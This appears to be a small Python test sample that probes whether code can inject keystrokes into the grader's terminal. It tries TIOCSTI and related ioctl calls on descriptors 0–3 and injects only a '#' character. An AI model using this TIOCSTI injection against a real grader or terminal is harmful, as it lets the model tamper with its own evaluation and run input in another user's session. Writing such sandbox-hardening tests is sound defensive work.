"""Wants to type into the grader's terminal."""

import fcntl
import struct
import termios


def attack():
    found = []
    for descriptor in range(4):
        for request in (termios.TIOCSTI, termios.TIOCSCTTY, 0x541C, 2**32 + termios.TIOCSTI):
            try:
                fcntl.ioctl(descriptor, request & 0xFFFFFFFF, struct.pack("8s", b"#"))
            except OSError:
                continue
            found.append((descriptor, request))
    return found
